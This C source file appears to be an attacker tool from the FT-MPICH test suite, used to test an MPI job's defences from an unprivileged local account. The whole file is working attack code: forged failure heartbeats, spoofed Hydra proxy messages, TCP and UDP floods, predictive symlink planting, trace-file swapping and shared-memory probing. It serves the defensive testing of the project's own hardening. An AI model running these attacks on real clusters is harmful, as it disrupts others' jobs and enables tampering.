/* Copyright (c) 2026 The FT-MPICH authors. See LICENSE. */
/* An outsider on the node, for the attack tests
 * (test/ftmpi/scripts/attack_*.sh). It runs as another, unprivileged user
 * than the job and uses only what every user of the node sees:
 * /proc/net/{udp,udp6,tcp,tcp6} (every socket's address, owner and inode),
 * /proc/PID/comm and /proc/sys/kernel/ns_last_pid. It is built with plain
 * gcc (no MPI):
 *
 *   attacker snapshot FILE
 *       records the inodes of the sockets of uid 0 that exist now (taken
 *       before the job starts: the job's are those that appear later)
 *   attacker heartbeat SNAPSHOT COMM NPROCS
 *       sends forged heartbeat datagrams "process k has failed" (HB_FAILED,
 *       src/mpid/ftdev/ftdev_wire.h) for every k, claiming to come
 *       from every process id and every OS pid of the processes named COMM,
 *       to every UDP socket of uid 0 made since the snapshot; each both in
 *       today's 24-byte form and padded to 48 bytes (room for a counter and
 *       a MAC, which it cannot compute: garbage)
 *   attacker control MODE SNAPSHOT DUMP NPROCS [HOLD]
 *       connects to every TCP socket of uid 0 listening since the snapshot
 *       (mpiexec's control port among them; /proc does not say which),
 *       all at once, and speaks Hydra's control protocol
 *       (src/pm/hydra/pm/pmiserv/pmiserv_cb.c) as a proxy would:
 *         unknown     sends proxy id 777
 *         read        claims proxy 0 and reads all that comes
 *         hangup      claims proxy 0 and hangs up at once
 *         declared    claims proxy 0, then PMI gets of
 *                     PMI_declared_failed_<r> for r = 0..NPROCS-1
 *         terminated  claims proxy 0, then PROCESS_TERMINATED of rank 1
 *       keeping each connection HOLD seconds (2) after its last send; what
 *       each connection received is appended to DUMP
 *   attacker flood SECONDS WORKERS [ADDRESS:]PORT...
 *       floods the TCP ports PORT... of this node (at 127.0.0.1, or at
 *       the node's IPv4 ADDRESS where one is given) with
 *       connections that never answer: WORKERS processes each open as many
 *       as they can hold (their descriptor limit raised to its hard limit)
 *       and open another as soon as one is closed by the other side, for
 *       SECONDS; a challenge that comes is read and ignored. Prints
 *       "flooded ...: O connections opened, C closed by the other side, at
 *       most H held at once".
 *   attacker datagrams SECONDS CAPTURE ADDRESS:PORT...
 *       sends UDP datagrams to the ports ADDRESS:PORT... (on any node) as
 *       fast as it can for SECONDS, in turn: random bytes of the sizes of
 *       heartbeat datagrams (24, 48 and 64 bytes), and each datagram of
 *       CAPTURE (one per line in hex: ones seen on the network, replayed
 *       to every port; an empty file: none). Prints "sent N datagrams
 *       (R of them replays) to P port(s)".
 *   attacker links DIR NAME AHEAD TARGET STOPFILE LOG
 *       plants symbolic links DIR/NAME.<pid> -> TARGET for the AHEAD pids
 *       after /proc/sys/kernel/ns_last_pid, and keeps AHEAD ahead of it,
 *       until STOPFILE exists (or 300 s); LOG gets "link PID" for each link
 *       planted, "ready FIRST" once the first AHEAD are there, "late PID"
 *       for a pid that may have been used before its link was planted, and
 *       "last PID" at the end.
 *   attacker swap DIR NAME TARGET
 *       replaces each regular file DIR/NAME.<pid> (a trace the job made)
 *       by a symbolic link to TARGET (DIR is world-writable and not
 *       sticky: anyone may remove what is in it); prints "swapped PID"
 *       for each.
 *   attacker shm COMM
 *       tries to read the shared memory of the processes named COMM: it
 *       attaches (read-only) every SysV segment they created
 *       (/proc/sysvipc/shm), opens every file of /dev/shm and every
 *       descriptor of theirs under /proc/PID/fd that names one; prints
 *       "segments A of S attached, files F opened, descriptors D opened"
 *       (run it as a member of the job owner's group as well)
 *
 * Exit status 0 when the attack was made, 2 when it found nothing to
 * attack (no new socket, no process named COMM, no file to swap), 1 on a
 * usage error. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MAX_SOCKS 256
#define MAX_PIDS 64

typedef struct {
    int v6;
    unsigned char addr[16];     /* network order (4 bytes for IPv4) */
    unsigned port;
    unsigned long inode;
} sock_t;

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec * 1e-9;
}

/* The sockets of uid 0 in /proc/net/FILE (for tcp: those listening). */
static int read_socks(const char *file, int listening_only, sock_t * out, int max)
{
    char path[64], line[512], local[64];
    int n = 0;
    snprintf(path, sizeof(path), "/proc/net/%s", file);
    FILE *f = fopen(path, "r");
    if (f == NULL)
        return 0;
    if (fgets(line, sizeof(line), f) == NULL) {     /* the header */
        fclose(f);
        return 0;
    }
    while (n < max && fgets(line, sizeof(line), f)) {
        unsigned port, state, uid;
        unsigned long inode;
        if (sscanf(line, " %*d: %63[0-9A-Fa-f]:%x %*[0-9A-Fa-f]:%*x %x %*x:%*x %*x:%*x %*x %u %*d %lu",
                   local, &port, &state, &uid, &inode) != 5)
            continue;
        if (uid != 0 || inode == 0 || (listening_only && state != 0x0A))
            continue;
        sock_t s = {.v6 = strlen(local) == 32,.port = port,.inode = inode };
        /* the kernel prints each 32-bit word of the address in host order */
        for (int w = 0; w < (s.v6 ? 4 : 1); w++) {
            char word[9];
            memcpy(word, local + 8 * w, 8);
            word[8] = 0;
            uint32_t v = (uint32_t) strtoul(word, NULL, 16);
            memcpy(s.addr + 4 * w, &v, 4);
        }
        out[n++] = s;
    }
    fclose(f);
    return n;
}

static unsigned long snap[4 * MAX_SOCKS];
static int nsnap;

static int load_snapshot(const char *file)
{
    FILE *f = fopen(file, "r");
    char kind[8];
    unsigned long inode;
    if (f == NULL) {
        perror(file);
        return -1;
    }
    while (nsnap < (int) (sizeof(snap) / sizeof(snap[0])) && fscanf(f, "%7s %lu", kind, &inode) == 2)
        snap[nsnap++] = inode;
    fclose(f);
    return 0;
}

static int in_snapshot(unsigned long inode)
{
    for (int i = 0; i < nsnap; i++)
        if (snap[i] == inode)
            return 1;
    return 0;
}

/* The sockets of uid 0 made since the snapshot, by inode (not their age:
 * the kernel hands inode numbers out in per-CPU batches). */
static int new_socks(int tcp, sock_t * out)
{
    sock_t all[2 * MAX_SOCKS];
    int n = read_socks(tcp ? "tcp" : "udp", tcp, all, MAX_SOCKS), m = 0;
    n += read_socks(tcp ? "tcp6" : "udp6", tcp, all + n, MAX_SOCKS);
    for (int i = 0; i < n; i++)
        if (!in_snapshot(all[i].inode) && m < MAX_SOCKS)
            out[m++] = all[i];
    for (int i = 1; i < m; i++)
        for (int j = i; j > 0 && out[j - 1].inode > out[j].inode; j--) {
            sock_t t = out[j];
            out[j] = out[j - 1];
            out[j - 1] = t;
        }
    return m;
}

static int is_any(const sock_t * s)
{
    static const unsigned char zero[16];
    return !memcmp(s->addr, zero, s->v6 ? 16 : 4);
}

/* Where to reach socket s: its own address, loopback for a wildcard. */
static socklen_t target_of(const sock_t * s, struct sockaddr_storage *ss)
{
    memset(ss, 0, sizeof(*ss));
    if (s->v6) {
        struct sockaddr_in6 *a = (struct sockaddr_in6 *) ss;
        a->sin6_family = AF_INET6;
        a->sin6_port = htons(s->port);
        if (is_any(s))
            a->sin6_addr = in6addr_loopback;
        else
            memcpy(&a->sin6_addr, s->addr, 16);
        return sizeof(*a);
    }
    struct sockaddr_in *a = (struct sockaddr_in *) ss;
    a->sin_family = AF_INET;
    a->sin_port = htons(s->port);
    if (is_any(s))
        a->sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    else
        memcpy(&a->sin_addr, s->addr, 4);
    return sizeof(*a);
}

static int cmd_snapshot(const char *file)
{
    sock_t s[MAX_SOCKS];
    FILE *f = fopen(file, "w");
    if (f == NULL) {
        perror(file);
        return 1;
    }
    const char *names[] = { "udp", "udp6", "tcp", "tcp6" };
    for (int k = 0; k < 4; k++) {
        int n = read_socks(names[k], 0, s, MAX_SOCKS);
        for (int i = 0; i < n; i++)
            fprintf(f, "%s %lu\n", names[k], s[i].inode);
    }
    fclose(f);
    return 0;
}

/* ---- heartbeat ---------------------------------------------------------- */

/* The OS pids of the processes whose /proc/PID/comm is `comm`. */
static int pids_named(const char *comm, int *pids, int max)
{
    DIR *d = opendir("/proc");
    struct dirent *e;
    int n = 0;
    char path[300], name[64];
    if (d == NULL)
        return 0;
    while ((e = readdir(d)) && n < max) {
        if (e->d_name[0] < '1' || e->d_name[0] > '9')
            continue;
        snprintf(path, sizeof(path), "/proc/%s/comm", e->d_name);
        FILE *f = fopen(path, "r");
        if (f == NULL)
            continue;
        if (fgets(name, sizeof(name), f)) {
            name[strcspn(name, "\n")] = 0;
            if (!strncmp(name, comm, 15))
                pids[n++] = atoi(e->d_name);
        }
        fclose(f);
    }
    closedir(d);
    return n;
}

/* hb_msg_t of today (src/mpid/ftdev/ftdev_wire.h) */
struct hb_msg {
    uint32_t magic, kind;
    int32_t from, from_ospid, about, state;
};
#define HB_MAGIC 0x46544842
#define HB_FAILED 3

static int cmd_heartbeat(const char *snapfile, const char *comm, int nprocs)
{
    sock_t socks[MAX_SOCKS];
    int pids[MAX_PIDS], npids = 0, nsocks, sent = 0, tries = 0;
    if (load_snapshot(snapfile))
        return 1;
    /* every process of the job runs once the test says so; wait a little
     * for /proc to show them all anyway */
    do {
        npids = pids_named(comm, pids, MAX_PIDS);
        nsocks = new_socks(0, socks);
        if (npids >= nprocs && nsocks >= nprocs)
            break;
        usleep(100000);
    } while (++tries < 50);
    printf("attacker: %d process(es) named %s:", npids, comm);
    for (int i = 0; i < npids; i++)
        printf(" %d", pids[i]);
    printf("; %d new UDP socket(s) of uid 0:", nsocks);
    for (int i = 0; i < nsocks; i++)
        printf(" %u", socks[i].port);
    printf("\n");
    if (npids == 0 || nsocks == 0) {
        printf("attacker: nothing to attack\n");
        return 2;
    }
    int fd4 = socket(AF_INET, SOCK_DGRAM, 0), fd6 = socket(AF_INET6, SOCK_DGRAM, 0);
    for (int about = 0; about < nprocs; about++)
        for (int s = 0; s < nsocks; s++)
            for (int from = 0; from < nprocs; from++)
                for (int p = 0; p < npids; p++) {
                    struct {
                        struct hb_msg m;
                        unsigned char tail[24];         /* "counter + MAC" */
                    } d;
                    struct sockaddr_storage to;
                    socklen_t len = target_of(&socks[s], &to);
                    memset(&d, 0, sizeof(d));
                    d.m = (struct hb_msg) {.magic = HB_MAGIC,.kind = HB_FAILED,.from = from,
                        .from_ospid = pids[p],.about = about,.state = 0
                    };
                    for (size_t i = 0; i < sizeof(d.tail); i++)
                        d.tail[i] = (unsigned char) (i * 37 + about + 1);
                    int fd = socks[s].v6 ? fd6 : fd4;
                    sent += sendto(fd, &d, sizeof(d.m), 0, (struct sockaddr *) &to, len) > 0;
                    sent += sendto(fd, &d, sizeof(d), 0, (struct sockaddr *) &to, len) > 0;
                }
    printf("attacker: sent %d forged HB_FAILED datagrams (24 and 48 bytes)\n", sent);
    return 0;
}

/* ---- mpiexec's control port --------------------------------------------- */

/* struct HYD_pmcd_hdr (src/pm/hydra/pm/pmiserv/common.h) */
struct hyd_hdr {
    int cmd, buflen, pid, pmi_version, pgid, proxy_id, rank, signum;
};
enum { HYD_PMI_CMD = 7, HYD_PROCESS_TERMINATED = 10 };

static char *got;               /* what this connection received */
static size_t got_len, got_cap;
static char kvsname[256] = "kvs_0";

static void keep(const char *buf, ssize_t n)
{
    if (got_len + n > got_cap) {
        got_cap = 2 * (got_len + n);
        got = realloc(got, got_cap);
        if (got == NULL)
            exit(1);
    }
    memcpy(got + got_len, buf, n);
    got_len += n;
    /* the job's key-value space, if mpiexec names it (--pmi-kvsname) */
    const char *k = memmem(buf, n, "kvs_", 4);
    if (k && !strcmp(kvsname, "kvs_0")) {
        size_t i = 0;
        while (k + i < buf + n && i < sizeof(kvsname) - 1 &&
               (isalnum((unsigned char) k[i]) || k[i] == '_' || k[i] == '-'))
            i++;
        memcpy(kvsname, k, i);
        kvsname[i] = 0;
    }
}

/* Reads what comes on fd until it closes or `quiet` seconds pass without a
 * byte (`most` seconds at most). Returns 1 once the peer has closed. */
static int drain(int fd, double quiet, double most)
{
    double start = now(), last = start;
    char buf[65536];
    while (now() - last < quiet && now() - start < most) {
        struct pollfd p = {.fd = fd,.events = POLLIN };
        if (poll(&p, 1, 50) <= 0)
            continue;
        ssize_t n = read(fd, buf, sizeof(buf));
        if (n <= 0)
            return 1;
        keep(buf, n);
        last = now();
    }
    return 0;
}

static int send_all(int fd, const void *buf, size_t len)
{
    const char *p = buf;
    while (len > 0) {
        ssize_t n = send(fd, p, len, MSG_NOSIGNAL);
        if (n <= 0)
            return -1;
        p += n;
        len -= n;
    }
    return 0;
}

/* One connection to socket s in `mode`; returns 0 if it connected. What it
 * received is appended to dumpfile in one write. */
static int attack_one(const sock_t * s, const char *mode, const char *dumpfile, int nprocs,
                      double hold)
{
    struct sockaddr_storage to;
    socklen_t len = target_of(s, &to);
    int fd = socket(to.ss_family, SOCK_STREAM, 0), closed = 0;
    if (connect(fd, (struct sockaddr *) &to, len) != 0) {
        printf("attacker: port %u: connect: %s\n", s->port, strerror(errno));
        close(fd);
        return 1;
    }
    int id = !strcmp(mode, "unknown") ? 777 : 0;
    if (send_all(fd, &id, sizeof(id)) != 0)
        closed = 1;
    if (!strcmp(mode, "hangup")) {
        close(fd);
        printf("attacker: port %u: claimed proxy 0 and hung up\n", s->port);
        return 0;
    }
    if (!strcmp(mode, "unknown") || !strcmp(mode, "read")) {
        closed = closed || drain(fd, 2.0, 10.0);
    } else {
        closed = closed || drain(fd, 0.5, 5.0);
        if (!strcmp(mode, "declared")) {
            for (int r = 0; r < nprocs && !closed; r++) {
                char text[512];
                struct hyd_hdr h = {.cmd = HYD_PMI_CMD,.pid = 5,.pmi_version = 1 };
                h.buflen = snprintf(text, sizeof(text),
                                    "cmd=get kvsname=%s key=PMI_declared_failed_%d\n", kvsname, r);
                if (send_all(fd, &h, sizeof(h)) || send_all(fd, text, h.buflen))
                    closed = 1;
                closed = closed || drain(fd, 0.2, 2.0);
            }
        } else {
            struct hyd_hdr h = {.cmd = HYD_PROCESS_TERMINATED,.pid = 1 };
            if (send_all(fd, &h, sizeof(h)))
                closed = 1;
        }
        closed = closed || drain(fd, hold, hold);
    }
    close(fd);
    printf("attacker: port %u: %s, %zu byte(s) received, %s\n", s->port, mode, got_len,
           closed ? "closed by the other side" : "hung up");
    FILE *dump = fopen(dumpfile, "a");
    if (dump == NULL) {
        perror(dumpfile);
        return 0;
    }
    setvbuf(dump, NULL, _IONBF, 0);     /* one write(2) on an O_APPEND file */
    if (got_len)
        fwrite(got, 1, got_len, dump);
    fclose(dump);
    return 0;
}

static int cmd_control(const char *mode, const char *snapfile, const char *dumpfile, int nprocs,
                       double hold)
{
    sock_t socks[MAX_SOCKS];
    pid_t child[MAX_SOCKS];
    int nsocks, made = 0;
    if (strcmp(mode, "unknown") && strcmp(mode, "read") && strcmp(mode, "hangup") &&
        strcmp(mode, "declared") && strcmp(mode, "terminated")) {
        fprintf(stderr, "attacker: unknown control mode %s\n", mode);
        return 1;
    }
    if (load_snapshot(snapfile))
        return 1;
    nsocks = new_socks(1, socks);
    printf("attacker: %d new listening TCP socket(s) of uid 0:", nsocks);
    for (int i = 0; i < nsocks; i++)
        printf(" %u", socks[i].port);
    printf("\n");
    /* all at once: the attack takes as long as one connection */
    for (int s = 0; s < nsocks; s++) {
        child[s] = fork();
        if (child[s] == 0)
            _exit(attack_one(&socks[s], mode, dumpfile, nprocs, hold));
    }
    for (int s = 0; s < nsocks; s++) {
        int status;
        if (child[s] > 0 && waitpid(child[s], &status, 0) == child[s] && WIFEXITED(status) &&
            WEXITSTATUS(status) == 0)
            made++;
    }
    if (made == 0) {
        printf("attacker: nothing to attack\n");
        return 2;
    }
    return 0;
}

/* ---- flooding a port ---------------------------------------------------- */

struct flood_count {
    long opened, closed, held, most;
};

typedef struct {
    struct in_addr addr;
    unsigned port;
} flood_target_t;

/* "PORT" (at 127.0.0.1) or "A.B.C.D:PORT"; 0 when it is neither */
static int parse_flood_target(const char *s, flood_target_t *t)
{
    const char *colon = strrchr(s, ':');
    char addr[64];
    t->addr.s_addr = htonl(INADDR_LOOPBACK);
    if (colon) {
        if ((size_t) (colon - s) >= sizeof(addr))
            return 0;
        memcpy(addr, s, colon - s);
        addr[colon - s] = '\0';
        if (inet_pton(AF_INET, addr, &t->addr) != 1)
            return 0;
        s = colon + 1;
    }
    char *end;
    long port = strtol(s, &end, 10);
    if (*s == '\0' || *end != '\0' || port < 1 || port > 65535)
        return 0;
    t->port = (unsigned) port;
    return 1;
}

/* One worker: keeps as many connections open as its descriptors allow. */
static void flood_worker(const flood_target_t *targets, int ntargets, double until,
                         struct flood_count *c)
{
    struct rlimit rl;
    struct pollfd *fds;
    int n = 0, cap, next_port = 0, opening = 1;

    if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < rl.rlim_max) {
        rl.rlim_cur = rl.rlim_max;
        setrlimit(RLIMIT_NOFILE, &rl);
    }
    getrlimit(RLIMIT_NOFILE, &rl);
    cap = rl.rlim_cur > 65536 ? 65536 - 16 : (int) rl.rlim_cur - 16;
    fds = calloc(cap, sizeof(*fds));
    if (fds == NULL)
        return;
    while (now() < until) {
        /* a burst of new connections, then a look at the held ones */
        for (int k = 0; opening && k < 64 && n < cap; k++) {
            const flood_target_t *t = &targets[next_port++ % ntargets];
            struct sockaddr_in a = {.sin_family = AF_INET,
                .sin_port = htons(t->port),
                .sin_addr = t->addr
            };
            int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
            if (fd < 0) {
                opening = 0;    /* out of descriptors until one closes */
                break;
            }
            if (connect(fd, (struct sockaddr *) &a, sizeof(a)) != 0 && errno != EINPROGRESS) {
                close(fd);
                break;
            }
            fds[n++] = (struct pollfd) {.fd = fd,.events = POLLIN };
            c->opened++;
        }
        c->held = n;
        if (n > c->most)
            c->most = n;
        if (poll(fds, n, 1) <= 0)
            continue;
        for (int i = 0; i < n; i++) {
            char buf[256];
            if (!fds[i].revents)
                continue;
            if (!(fds[i].revents & (POLLHUP | POLLERR)) && read(fds[i].fd, buf, sizeof(buf)) > 0)
                continue;
            close(fds[i].fd);
            fds[i--] = fds[--n];
            c->closed++;
            opening = 1;
        }
    }
    for (int i = 0; i < n; i++)
        close(fds[i].fd);
    free(fds);
}

static int cmd_flood(double seconds, int workers, const flood_target_t *targets, int ntargets)
{
    struct flood_count *counts, sum = { 0, 0, 0, 0 };
    pid_t child[64];
    double until = now() + seconds;

    if (workers < 1 || workers > 64 || ntargets < 1)
        return 1;
    counts = mmap(NULL, workers * sizeof(*counts), PROT_READ | PROT_WRITE,
                  MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (counts == MAP_FAILED)
        return 1;
    memset(counts, 0, workers * sizeof(*counts));
    for (int w = 0; w < workers; w++) {
        child[w] = fork();
        if (child[w] == 0) {
            flood_worker(targets, ntargets, until, &counts[w]);
            _exit(0);
        }
    }
    for (int w = 0; w < workers; w++) {
        if (child[w] > 0)
            waitpid(child[w], NULL, 0);
        sum.opened += counts[w].opened;
        sum.closed += counts[w].closed;
        sum.most += counts[w].most;
    }
    printf("attacker: flooded port(s)");
    for (int i = 0; i < ntargets; i++) {
        char addr[INET_ADDRSTRLEN];
        inet_ntop(AF_INET, &targets[i].addr, addr, sizeof(addr));
        printf(" %s:%u", addr, targets[i].port);
    }
    printf(" for %.0f s with %d worker(s): %ld connections opened, %ld closed by the other "
           "side, at most %ld held at once\n", seconds, workers, sum.opened, sum.closed, sum.most);
    return sum.opened ? 0 : 2;
}

/* ---- datagrams from another node ---------------------------------------- */

#define MAX_REPLAYS 4096
#define MAX_DATAGRAM 512

static int hex_value(int c)
{
    return isdigit(c) ? c - '0' : tolower(c) - 'a' + 10;
}

/* the captured datagrams of FILE, one hex line each; -1 when unreadable */
static int read_capture(const char *file, unsigned char (*d)[MAX_DATAGRAM], size_t * len)
{
    char line[2 * MAX_DATAGRAM + 8];
    int n = 0;
    FILE *f = fopen(file, "r");
    if (f == NULL)
        return -1;
    while (n < MAX_REPLAYS && fgets(line, sizeof(line), f)) {
        size_t k = 0;
        for (const char *p = line; isxdigit((unsigned char) p[0]) && isxdigit((unsigned char) p[1]) &&
             k < MAX_DATAGRAM; p += 2)
            d[n][k++] = (unsigned char) (hex_value(p[0]) << 4 | hex_value(p[1]));
        if (k > 0)
            len[n++] = k;
    }
    fclose(f);
    return n;
}

static int cmd_datagrams(double seconds, const char *capture, const flood_target_t * targets,
                         int ntargets)
{
    static unsigned char replay[MAX_REPLAYS][MAX_DATAGRAM];
    static size_t replay_len[MAX_REPLAYS];
    static const size_t sizes[] = { 24, 48, 64 };
    int nreplays = read_capture(capture, replay, replay_len);
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    long sent = 0, replays = 0;
    unsigned char junk[64];
    unsigned seed = (unsigned) getpid();

    if (nreplays < 0 || fd < 0) {
        perror(nreplays < 0 ? capture : "socket");
        return 1;
    }
    double until = now() + seconds;
    for (long round = 0; now() < until; round++) {
        for (int t = 0; t < ntargets; t++) {
            struct sockaddr_in a = {.sin_family = AF_INET,.sin_port = htons(targets[t].port),
                .sin_addr = targets[t].addr
            };
            const unsigned char *msg = junk;
            size_t len = sizes[round % 3];
            int is_replay = nreplays > 0 && round % 2;
            if (is_replay) {
                int k = (int) ((round / 2) % nreplays);
                msg = replay[k], len = replay_len[k];
            } else {
                for (size_t i = 0; i < len; i++)
                    junk[i] = (unsigned char) rand_r(&seed);
            }
            if (sendto(fd, msg, len, 0, (struct sockaddr *) &a, sizeof(a)) == (ssize_t) len) {
                sent++;
                replays += is_replay;
            }
        }
    }
    close(fd);
    printf("attacker: sent %ld datagrams (%ld of them replays of %d captured) to %d port(s)\n",
           sent, replays, nreplays, ntargets);
    return sent ? 0 : 2;
}

/* ---- planted links ------------------------------------------------------ */

static long read_long(const char *file)
{
    FILE *f = fopen(file, "r");
    long v = -1;
    if (f) {
        if (fscanf(f, "%ld", &v) != 1)
            v = -1;
        fclose(f);
    }
    return v;
}

static int cmd_links(const char *dir, const char *name, long ahead, const char *target,
                     const char *stopfile, const char *logfile)
{
    long pid_max = read_long("/proc/sys/kernel/pid_max"), last = read_long("/proc/sys/kernel/ns_last_pid");
    long planted_to, first, planted = 0;
    double start = now();
    FILE *log = fopen(logfile, "w");
    if (log == NULL || pid_max <= 0 || last < 0) {
        perror(logfile);
        return 1;
    }
    setvbuf(log, NULL, _IOLBF, 0);
    first = last + 1;
    planted_to = last;          /* links are there for pids up to this one */
    int announced = 0;
    while (access(stopfile, F_OK) != 0 && now() - start < 300) {
        last = read_long("/proc/sys/kernel/ns_last_pid");
        while (planted_to < last + ahead) {
            long p = ++planted_to;
            /* pids wrap from pid_max - 1 to 300 */
            long pid = p < pid_max ? p : 300 + (p - pid_max) % (pid_max - 300);
            char path[4096];
            snprintf(path, sizeof(path), "%s/%s.%ld", dir, name, pid);
            if (p <= last)      /* fell behind: the process may have its file already */
                fprintf(log, "late %ld\n", pid);
            if (symlink(target, path) == 0) {
                planted++;
                fprintf(log, "link %ld\n", pid);
            }
        }
        if (!announced) {
            fprintf(log, "ready %ld\n", first);
            announced = 1;
        }
        usleep(1000);
    }
    fprintf(log, "last %ld\n", planted_to);
    printf("attacker: planted %ld link(s) %s/%s.PID -> %s, pids %ld to %ld\n", planted, dir, name,
           target, first, planted_to);
    fclose(log);
    return 0;
}

static int cmd_swap(const char *dir, const char *name, const char *target)
{
    DIR *d = opendir(dir);
    struct dirent *e;
    size_t len = strlen(name);
    int swapped = 0;
    if (d == NULL) {
        perror(dir);
        return 1;
    }
    while ((e = readdir(d))) {
        char path[4096];
        struct stat st;
        if (strncmp(e->d_name, name, len) || e->d_name[len] != '.')
            continue;
        snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
        if (lstat(path, &st) != 0 || !S_ISREG(st.st_mode))
            continue;
        if (unlink(path) == 0 && symlink(target, path) == 0) {
            printf("swapped %s\n", e->d_name + len + 1);
            swapped++;
        }
    }
    closedir(d);
    printf("attacker: replaced %d trace file(s) %s/%s.PID by links to %s\n", swapped, dir, name,
           target);
    return swapped ? 0 : 2;
}

static int is_one_of(int pid, const int *pids, int n)
{
    for (int i = 0; i < n; i++)
        if (pids[i] == pid)
            return 1;
    return 0;
}

/* Opens each entry of dir (only those whose link names /dev/shm when
 * links_to_shm is set); returns how many opened, *seen how many tried. */
static int open_entries(const char *dir, int links_to_shm, int *seen)
{
    DIR *d = opendir(dir);
    struct dirent *e;
    int opened = 0;
    char path[600], target[300];
    if (d == NULL)
        return 0;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.')
            continue;
        snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
        if (links_to_shm) {
            ssize_t len = readlink(path, target, sizeof(target) - 1);
            if (len < 0)
                continue;
            target[len] = 0;
            if (strncmp(target, "/dev/shm/", 9))
                continue;
        }
        (*seen)++;
        int fd = open(path, O_RDONLY | O_NOFOLLOW | O_NONBLOCK);
        if (fd >= 0) {
            opened++;
            close(fd);
        }
    }
    closedir(d);
    return opened;
}

static int cmd_shm(const char *comm)
{
    int pids[64], n = pids_named(comm, pids, 64), segments = 0, attached = 0;
    int files_seen = 0, fds_seen = 0, files, fds = 0;
    char line[512], dir[64];
    if (n == 0)
        return 2;
    FILE *f = fopen("/proc/sysvipc/shm", "r");
    if (f && fgets(line, sizeof(line), f)) {
        while (fgets(line, sizeof(line), f)) {
            long key, size;
            int id, perms, cpid;
            if (sscanf(line, "%ld %d %o %ld %d", &key, &id, &perms, &size, &cpid) != 5 ||
                !is_one_of(cpid, pids, n))
                continue;
            segments++;
            void *at = shmat(id, NULL, SHM_RDONLY);
            if (at != (void *) -1) {
                attached++;
                shmdt(at);
            }
        }
    }
    if (f)
        fclose(f);
    files = open_entries("/dev/shm", 0, &files_seen);
    for (int i = 0; i < n; i++) {
        snprintf(dir, sizeof(dir), "/proc/%d/fd", pids[i]);
        fds += open_entries(dir, 1, &fds_seen);
    }
    printf("segments %d of %d attached, files %d of %d opened, descriptors %d of %d opened\n",
           attached, segments, files, files_seen, fds, fds_seen);
    return 0;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    signal(SIGPIPE, SIG_IGN);
    if (argc == 3 && !strcmp(argv[1], "snapshot"))
        return cmd_snapshot(argv[2]);
    if (argc == 5 && !strcmp(argv[1], "heartbeat"))
        return cmd_heartbeat(argv[2], argv[3], atoi(argv[4]));
    if ((argc == 6 || argc == 7) && !strcmp(argv[1], "control"))
        return cmd_control(argv[2], argv[3], argv[4], atoi(argv[5]), argc == 7 ? atof(argv[6]) : 2.0);
    if (argc >= 5 && !strcmp(argv[1], "flood")) {
        flood_target_t targets[MAX_SOCKS];
        int ntargets = 0;
        for (int i = 4; i < argc && ntargets < MAX_SOCKS; i++) {
            if (!parse_flood_target(argv[i], &targets[ntargets++])) {
                fprintf(stderr, "attacker: flood target '%s' is neither PORT nor A.B.C.D:PORT\n",
                        argv[i]);
                return 1;
            }
        }
        return cmd_flood(atof(argv[2]), atoi(argv[3]), targets, ntargets);
    }
    if (argc >= 5 && !strcmp(argv[1], "datagrams")) {
        flood_target_t targets[MAX_SOCKS];
        int ntargets = 0;
        for (int i = 4; i < argc && ntargets < MAX_SOCKS; i++) {
            if (!parse_flood_target(argv[i], &targets[ntargets++])) {
                fprintf(stderr, "attacker: target '%s' is neither PORT nor A.B.C.D:PORT\n", argv[i]);
                return 1;
            }
        }
        return cmd_datagrams(atof(argv[2]), argv[3], targets, ntargets);
    }
    if (argc == 8 && !strcmp(argv[1], "links"))
        return cmd_links(argv[2], argv[3], atol(argv[4]), argv[5], argv[6], argv[7]);
    if (argc == 5 && !strcmp(argv[1], "swap"))
        return cmd_swap(argv[2], argv[3], argv[4]);
    if (argc == 3 && !strcmp(argv[1], "shm"))
        return cmd_shm(argv[2]);
    fprintf(stderr, "usage: attacker snapshot FILE | heartbeat SNAPSHOT COMM NPROCS |\n"
            "  control unknown|read|hangup|declared|terminated SNAPSHOT DUMP NPROCS [HOLD] |\n"
            "  flood SECONDS WORKERS [ADDRESS:]PORT... |\n"
            "  datagrams SECONDS CAPTURE ADDRESS:PORT... |\n"
            "  links DIR NAME AHEAD TARGET STOPFILE LOG | swap DIR NAME TARGET | shm COMM\n");
    return 1;
}
